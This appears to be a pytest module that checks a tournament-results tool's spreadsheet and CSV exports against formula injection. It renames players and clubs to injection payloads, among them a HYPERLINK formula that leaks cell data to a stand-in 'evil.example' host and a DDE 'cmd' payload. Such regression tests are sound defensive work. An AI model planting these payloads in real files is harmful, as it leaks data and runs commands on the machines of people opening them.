"""Names that look like spreadsheet formulas stay text on every export path (OWASP CSV injection).

A small tournament is simulated and its players, clubs and event renamed to formula-like text
before the pipeline runs; every xlsx and csv the project writes from it is opened again and each
cell checked: such text is a quote-prefixed string cell (xlsx) or starts with ``'`` (csv), while
numbers, negative ones included, stay numbers.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from openpyxl import load_workbook
from typer.testing import CliRunner, Result

from gdan import app
from printouts import Document, Section, to_csv, to_xlsx
from printouts.cells import FORMULA_STARTS, csv_safe, reads_as_formula

runner = CliRunner()
EVENT = "national-swiss-s3"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
RENAMED = {
    "Lin Lin": HYPERLINK,
    "Huang Qiang": "-3",
    "Zheng Lan": "@SUM(1+1)*cmd|' /C calc'!A0",
    "Zheng Wen": "+1+1",
    "Lianyungang Guandan Club": "\t=1+1",
    "Nantong Guandan Club": "\r=2+2",
    "Simulated national Swiss Open": "=1+2",
}
"""The simulator's names (seed 3) and the formula-like text each is replaced with."""


@pytest.fixture(scope="module")
def evil_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A processed store of a 4-pair, 1-round Swiss event whose names are all formula-like."""
    from pipelines.run.runner import run_pipeline
    from pipelines.storage.store import Store
    from simulator import simulate_to_dir

    root = tmp_path_factory.mktemp("evil_store")
    inbox = Store(root).inbox / "tournament"
    simulate_to_dir(inbox, kind="tournament", pairs=4, rounds=1, format="deals:1", seed=3)
    for path in inbox.iterdir():
        text = path.read_text(encoding="utf-8")
        for plain, evil in RENAMED.items():
            text = text.replace(json.dumps(plain), json.dumps(evil))
        path.write_text(text, encoding="utf-8")
    run_pipeline(root, workers=1)
    return root


def _gdan(store: Path, *args: str) -> Result:
    result = runner.invoke(app, [*args, "--store", str(store)], env={"COLUMNS": "200"})
    assert result.exit_code == 0, result.output
    return result


def _xlsx_cells(path: Path) -> Iterator[Any]:
    for ws in load_workbook(path).worksheets:
        for row in ws.iter_rows():
            yield from (c for c in row if c.value is not None)


def _assert_xlsx_safe(path: Path) -> list[Any]:
    """No formula cell anywhere; every formula-like text a quote-prefixed string. The cells."""
    cells = list(_xlsx_cells(path))
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    risky = [c for c in cells if reads_as_formula(c.value)]
    assert risky, "the printout shows none of the formula-like names"
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)
    return cells


def _assert_csv_safe(text: str) -> list[list[str]]:
    """Every cell that starts like a formula is a number or starts with the text mark. The rows."""
    rows = list(csv.reader(io.StringIO(text)))
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_STARTS):
                float(cell)  # only a number may start with - or +
    return rows


@pytest.mark.parametrize(
    ("command", "extra"),
    [("standings", []), ("round", ["--round", "1"]), ("player", [])],
)
def test_export_xlsx_writes_names_as_text(
    evil_store: Path, tmp_path: Path, command: str, extra: list[str]
) -> None:
    out = tmp_path / f"{command}.xlsx"
    _gdan(evil_store, "export", command, "--event", EVENT, *extra, "--format", "xlsx", "--out", str(out))
    cells = _assert_xlsx_safe(out)
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert any(t.startswith(HYPERLINK) for t in texts)
    assert any(c.data_type == "n" for c in cells)  # numbers stay numbers


@pytest.mark.parametrize(
    ("command", "extra"),
    [("standings", []), ("round", ["--round", "1"]), ("player", [])],
)
def test_export_csv_marks_names_as_text(
    evil_store: Path, tmp_path: Path, command: str, extra: list[str]
) -> None:
    out = tmp_path / f"{command}.csv"
    _gdan(evil_store, "export", command, "--event", EVENT, *extra, "--format", "csv", "--out", str(out))
    rows = _assert_csv_safe(out.read_text(encoding="utf-8"))
    cells = {c for row in rows for c in row}
    assert any(c.startswith("'" + HYPERLINK) for c in cells)


def test_sql_csv_marks_text_and_keeps_numbers(evil_store: Path) -> None:
    result = _gdan(
        evil_store,
        "sql",
        "SELECT name, club, -3 AS minus, '-3' AS minus_text FROM players ORDER BY name",
        "--format",
        "csv",
    )
    rows = _assert_csv_safe(result.stdout)
    assert rows[0] == ["name", "club", "minus", "minus_text"]
    assert {r[0] for r in rows[1:]} >= {"'" + HYPERLINK, "'-3", "'+1+1"}
    assert {r[1] for r in rows[1:]} == {"'\t=1+1", "'\r=2+2"}
    assert {(r[2], r[3]) for r in rows[1:]} == {("-3", "'-3")}


def test_pair_csv_marks_names(evil_store: Path) -> None:
    result = _gdan(evil_store, "pair", "--event", EVENT, "--round", "2", "--format", "csv")
    rows = _assert_csv_safe(result.stdout)
    players = {c for row in rows[1:] for c in (row[2], row[6])}
    assert "'-3 / +1+1" in players


def test_writers_guard_titles_headers_and_joined_lists() -> None:
    document = Document(
        "=1+2",
        [Section("@section", ["=col", "n"], [[["=a", "b"], -3], ["-3", 2.5], ["+x", None]], ["=line"])],
        subtitle="-sub",
    )
    book = load_workbook(io.BytesIO(to_xlsx(document)))
    cells = {c.value: c for row in book.active.iter_rows() for c in row if c.value is not None}
    for text in ("=1+2", "-sub", "@section", "=line", "=col", "=a, b", "-3", "+x"):
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    assert cells[-3].data_type == "n" and not cells[-3].quotePrefix
    rows = list(csv.reader(io.StringIO(to_csv(document).decode("utf-8"))))
    assert rows == [["'=col", "n"], ["'=a, b", "-3"], ["'-3", "2.5"], ["'+x", ""]]


def test_dashboard_table_download_marks_text() -> None:
    from dashboards.ui import table_csv

    df = pd.DataFrame({"name": [HYPERLINK, "-3", "Li"], "diff": [-3, 0, 4], "@col": ["a", "b", None]})
    rows = list(csv.reader(io.StringIO(table_csv(df).decode("utf-8"))))
    assert rows == [
        ["name", "diff", "'@col"],
        ["'" + HYPERLINK, "-3", "a"],
        ["'-3", "0", "b"],
        ["Li", "4", ""],
    ]


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, None, True])
def test_csv_safe_leaves_non_text_alone(value: Any) -> None:
    assert csv_safe(value) is value
